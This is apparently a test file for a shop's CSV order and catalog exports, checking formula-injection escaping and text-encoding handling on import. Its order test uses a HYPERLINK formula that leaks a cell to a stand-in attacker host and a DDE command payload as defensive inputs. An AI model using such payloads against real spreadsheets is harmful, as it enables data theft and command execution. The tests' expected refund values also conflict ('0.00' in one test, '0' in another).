import { env } from 'cloudflare:test';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { CheckoutData } from '../../../client/contract/pages/checkout';
import type { MarketCode } from '../../../locales/markets';
import { lineSalesTax } from '../../../locales/sales-tax';
import { addPair, checkoutForm, Shopper, US_ADDRESS } from '../../../test/shopper';
import { csvFile } from '../../csv';

/**
 * The CSV files the shop writes, opened as a spreadsheet program opens them, and the catalog
 * import's reading of the encoding it is given.
 */

const operator = new Shopper('us');
const call = (path: string, init: RequestInit = {}) =>
  operator.fetch(`/admin/api${path}`, {
    ...init,
    headers: { authorization: `Bearer ${env.ADMIN_TOKEN}`, 'content-type': 'application/json', ...(init.headers ?? {}) },
  });
const post = (path: string, body: unknown = {}) => call(path, { method: 'POST', body: JSON.stringify(body) });

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** The file's bytes as a spreadsheet gets them, and its rows as objects by column name. */
function opened(bytes: ArrayBuffer) {
  const view = new Uint8Array(bytes);
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(view);
  const parsed = Papa.parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { bom: [...view.subarray(0, 3)], rows: parsed.data };
}

async function importItems(items: object[], dryRun = false) {
  const { id } = (await (await post('/catalog/imports', { language: 'en', currency: 'USD' })).json()) as { id: string };
  const staged = await post(`/catalog/imports/${id}/chunks`, {
    format: 'json',
    file: 'catalog.json',
    items: items.map((item, i) => ({ kind: 'product', line: i + 1, column: 1, text: JSON.stringify(item) })),
  });
  expect(await staged.json()).toEqual({ problems: [] });
  return (await (await post(`/catalog/imports/${id}/commit`, { dryRun })).json()) as {
    summary: { created: string[]; changed: { item: string; fields: string[] }[]; unchanged: number; applied: boolean };
  };
}

/** What `npm run shop -- catalog export --format shopify` writes, page after page. */
async function shopifyExport(): Promise<string> {
  const rows: string[][] = [];
  let header: string[] = [];
  let after = '';
  do {
    const page = (await (await call(`/catalog/export?format=shopify&after=${after}&limit=500`)).json()) as {
      header: string[];
      rows: string[][];
      next: string | null;
    };
    header = page.header;
    rows.push(...page.rows);
    after = page.next ?? '';
  } while (after);
  return csvFile(header, rows);
}

describe('the orders export', () => {
  it('writes a shopper-typed formula as text, keeps amounts as numbers, and accents and Japanese as UTF-8 with a BOM', async () => {
    const shopper = new Shopper('us');
    await addPair(shopper, 'CMF-118');
    const form = {
      ...(await checkoutForm(shopper, 'formula@example.com')),
      'shipping.firstName': HYPERLINK,
      'shipping.lastName': 'Zoë 山田',
      'shipping.address': '@SUM(1+1)*cmd|/C calc!A0',
      'shipping.city': 'Pörtland 東京',
    };
    const paid = await shopper.post('/checkout/pay', form, { json: true });
    expect(paid.status).toBe(200);

    const res = await call('/orders/export.csv?email=formula@example.com');
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const { bom, rows } = opened(await res.arrayBuffer());
    expect(bom).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows).toHaveLength(1);
    const [row] = rows;
    expect(row.name).toBe(`'${HYPERLINK} Zoë 山田`);
    expect(row.address).toBe("'@SUM(1+1)*cmd|/C calc!A0");
    expect(row.city).toBe('Pörtland 東京');
    // The phone a shopper writes with its country code would be a formula too.
    expect(row.phone).toBe("'+1 217 555 0100");
    expect(row.contact).toBe('formula@example.com');
    expect(row.quantity).toBe('1');
    expect(row.unit_price).toMatch(/^\d+\.\d{2}$/);
    expect(row.order_total).toMatch(/^\d+\.\d{2}$/);
    expect(row.variant_sku).toMatch(/^CMF-118-/);
  });

  it('an export without orders still names its columns', async () => {
    const res = await call('/orders/export.csv?email=nobody@example.com');
    expect(await res.text()).toMatch(/^order,placed_at,status,market,contact,name,.*,order_tax,order_total,order_refunded\r\n$/);
  });

  it("has each line's and order's tax and what was refunded so far", async () => {
    // Two pairs to California: sales tax on the line and the order.
    const shopper = new Shopper('us');
    await addPair(shopper, 'CMF-101');
    await addPair(shopper, 'CMF-101');
    const form = await checkoutForm(shopper, 'taxed@example.com');
    const { totals } = await shopper.payload<CheckoutData>('/checkout');
    const [tax] = lineSalesTax([{ lineTotal: totals.subtotal, quantity: 2 }], totals.discount, 'US', 'CA');
    const california = { 'shipping.city': 'Sacramento', 'shipping.state': 'CA', 'shipping.postalCode': '95814' };
    const paid = await shopper.post('/checkout/pay', { ...form, ...california, expectedTotal: String(totals.total + tax) }, { json: true });
    expect(paid.status).toBe(200);
    const id = ((await paid.json()) as { location: string }).location.split('/')[2];
    const line = await env.DB.prepare('SELECT variant_sku AS sku FROM order_lines WHERE order_id = ?').bind(id).first<{ sku: string }>();
    expect((await post(`/orders/${id}/refund`, { lines: [{ variant: line?.sku, quantity: 1 }] })).status).toBe(200);
    const refund = await env.DB.prepare('SELECT amount FROM order_refunds WHERE order_id = ?').bind(id).first<{ amount: number }>();

    const { rows } = opened(await (await call('/orders/export.csv?email=taxed@example.com')).arrayBuffer());
    const dollars = (cents: number) => (cents / 100).toFixed(2);
    expect(tax).toBeGreaterThan(0);
    expect(rows).toEqual([
      expect.objectContaining({
        order: id,
        status: 'paid',
        line_tax: dollars(tax),
        order_tax: dollars(tax),
        order_total: dollars(totals.total + tax),
        order_refunded: dollars(refund?.amount ?? 0),
      }),
    ]);
    expect(refund?.amount).toBeGreaterThan(0);
    // Not refunded: 0, as a number.
    const untouched = await placeOrder('us', 'untouched@example.com', US_ADDRESS);
    const [plain] = opened(await (await call('/orders/export.csv?email=untouched@example.com')).arrayBuffer()).rows;
    expect(plain).toMatchObject({ order: untouched, line_tax: '0.00', order_tax: '0.00', order_refunded: '0.00' });
  });

  it('writes names as their country does: family name first in Japan and Hungary', async () => {
    await placeOrder('jp', 'hanako@example.com', {
      'shipping.country': 'JP',
      'shipping.firstName': '花子',
      'shipping.lastName': '山田',
      'shipping.address': '千代田1-1',
      'shipping.state': '東京都',
      'shipping.city': '千代田区',
      'shipping.postalCode': '100-0001',
      'shipping.phone': '03-1234-5678',
    });
    await placeOrder('hu', 'anna@example.com', {
      'shipping.country': 'HU',
      'shipping.firstName': 'Anna',
      'shipping.lastName': 'Kovács',
      'shipping.address': 'Andrássy út 12',
      'shipping.city': 'Budapest',
      'shipping.postalCode': '1061',
      'shipping.phone': '+36 1 234 5678',
    });
    const nameOf = async (email: string) =>
      opened(await (await call(`/orders/export.csv?email=${email}`)).arrayBuffer()).rows.map((r) => [r.name, r.order_refunded]);
    expect(await nameOf('hanako@example.com')).toEqual([['山田 花子', '0']]);
    expect(await nameOf('anna@example.com')).toEqual([['Kovács Anna', '0']]);
  });
});

/** A paid order of one pair in `market`, shipped to `address`; its id. */
async function placeOrder(market: MarketCode, contact: string, address: Record<string, string>) {
  const shopper = new Shopper(market);
  await addPair(shopper, 'CMF-119');
  const { attempt, totals, currency } = await shopper.payload<CheckoutData>('/checkout');
  const res = await shopper.post(
    '/checkout/pay',
    {
      attempt,
      expectedTotal: String(totals.total),
      expectedCurrency: currency,
      contact,
      billingSame: 'on',
      ...address,
      paymentToken: await shopper.cardToken(),
    },
    { json: true },
  );
  expect(res.status).toBe(200);
  return ((await res.json()) as { location: string }).location.split('/')[2];
}

describe('the catalog as Shopify CSV', () => {
  it('round-trips: texts that look like formulas are text in the file and import back unchanged', async () => {
    const texts = {
      title: '=1+1 Walker',
      summary: '-20% off: +Comfort @home',
      description: 'Soft.',
      seoTitle: "'=quoted on purpose",
    };
    const image = await env.DB.prepare('SELECT src, width, height FROM product_images LIMIT 1').first<{
      src: string;
      width: number;
      height: number;
    }>();
    if (!image) throw new Error('The seed has no image');
    const product = {
      sku: 'FORMULA-WALKER',
      published: true,
      sizeChart: 'unisex',
      texts: { en: texts },
      prices: { USD: { amount: 8995, compareAt: null } },
      collections: [],
      variants: [{ sku: 'FORMULA-WALKER-BLACK-42', colour: 'black', size: '42', stock: 5 }],
      images: [{ ...image, alt: '-side view, @ the heel' }],
    };
    expect((await importItems([product])).summary.created).toEqual(['product:FORMULA-WALKER']);

    const file = await shopifyExport();
    const { bom, rows } = opened(new TextEncoder().encode(file).buffer as ArrayBuffer);
    expect(bom).toEqual([0xef, 0xbb, 0xbf]);
    const row = rows.find((r) => r.Handle === 'formula-walker');
    expect(row).toMatchObject({
      Title: "'=1+1 Walker",
      'SEO Description': "'-20% off: +Comfort @home",
      'SEO Title': "''=quoted on purpose",
      'Image Alt Text': "'-side view, @ the heel",
      'Variant Price': '89.95',
    });

    // The file goes back in as the command line sends it: the header and each row with its line.
    const parsed = Papa.parse<string[]>(file.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    const [header, ...cells] = parsed;
    const { id } = (await (await post('/catalog/imports', { language: 'en', currency: 'USD' })).json()) as { id: string };
    const staged = await post(`/catalog/imports/${id}/chunks`, {
      format: 'shopify',
      file: 'products.csv',
      header,
      rows: cells.map((c, i) => ({ line: i + 2, cells: c })).filter((r) => r.cells[0] === 'formula-walker'),
      images: { [image.src]: image },
    });
    expect(await staged.json()).toMatchObject({ problems: [] });
    const committed = (await (await post(`/catalog/imports/${id}/commit`, { dryRun: true })).json()) as {
      summary: { created: string[]; changed: unknown[]; unchanged: number };
    };
    expect(committed.summary).toMatchObject({ created: [], changed: [], unchanged: 1 });

    const stored = await env.DB.prepare("SELECT title, summary, seo_title FROM product_texts WHERE product_sku = 'FORMULA-WALKER'").first();
    expect(stored).toEqual({ title: texts.title, summary: texts.summary, seo_title: texts.seoTitle });
  });
});

describe('the catalog import reads the encoding it is given', () => {
  const latin1 = (text: string) => Uint8Array.from(text, (ch) => ch.charCodeAt(0));
  const chunk = (title: string, sku = 'CMF-101') =>
    JSON.stringify({
      format: 'json',
      file: 'catalog.json',
      items: [
        { kind: 'product', line: 2, column: 3, text: JSON.stringify({ sku, texts: { en: { title, summary: 'S', description: 'D' } } }) },
      ],
    });
  const start = async () => ((await (await post('/catalog/imports', { language: 'en', currency: 'USD' })).json()) as { id: string }).id;
  const send = (id: string, body: BodyInit, contentType: string) =>
    call(`/catalog/imports/${id}/chunks`, { method: 'POST', body, headers: { 'content-type': contentType } });

  it('refuses a body that is not UTF-8, naming the byte and how to send it', async () => {
    const res = await send(await start(), latin1(chunk('Café Crème')), 'application/json');
    expect(res.status).toBe(400);
    const answer = (await res.json()) as { error: string; problems: string[] };
    expect(answer.error).toBe('The body is not text in its encoding');
    expect(answer.problems).toEqual([expect.stringMatching(/^body: byte \d+ of line 1 \(0xE9\) is not UTF-8; .*charset=windows-1252\)$/)]);
  });

  it('decodes the charset the content-type names, and takes UTF-8 with a byte order mark', async () => {
    const id = await start();
    const declared = await send(id, latin1(chunk('Café Crème')), 'application/json; charset=ISO-8859-1');
    expect(await declared.json()).toEqual({ problems: [] });
    const withBom = await send(id, new TextEncoder().encode(`\uFEFF${chunk('Zoë 山田', 'CMF-102')}`), 'application/json');
    expect(await withBom.json()).toEqual({ problems: [] });
    const committed = (await (await post(`/catalog/imports/${id}/commit`, { dryRun: false })).json()) as { summary: { applied: boolean } };
    expect(committed.summary.applied).toBe(true);
    const { results } = await env.DB.prepare(
      "SELECT title FROM product_texts WHERE product_sku IN ('CMF-101', 'CMF-102') AND language = 'en' ORDER BY product_sku",
    ).all();
    expect(results).toEqual([{ title: 'Café Crème' }, { title: 'Zoë 山田' }]);

    const unknown = await send(await start(), latin1(chunk('Café')), 'application/json; charset=klingon');
    expect(unknown.status).toBe(415);
  });

  it('refuses text a client already misread (U+FFFD), naming the line and column', async () => {
    const id = await start();
    const json = await call(`/catalog/imports/${id}/chunks`, { method: 'POST', body: chunk('Caf\uFFFD Cr\uFFFDme') });
    expect(await json.json()).toEqual({
      problems: [
        {
          file: 'catalog.json',
          line: 2,
          column: expect.any(String),
          message: expect.stringMatching(/^holds U\+FFFD .*--encoding windows-1252\)$/),
        },
      ],
    });
    const csv = await post(`/catalog/imports/${id}/chunks`, {
      format: 'shopify',
      file: 'products.csv',
      header: ['Handle', 'Title'],
      rows: [{ line: 7, cells: ['cafe-creme', 'Caf\uFFFD Cr\uFFFDme'] }],
      images: {},
    });
    expect(await csv.json()).toMatchObject({
      problems: [{ file: 'products.csv', line: 7, column: 'B (Title)', message: expect.stringMatching(/^holds U\+FFFD /) }],
    });
  });
});
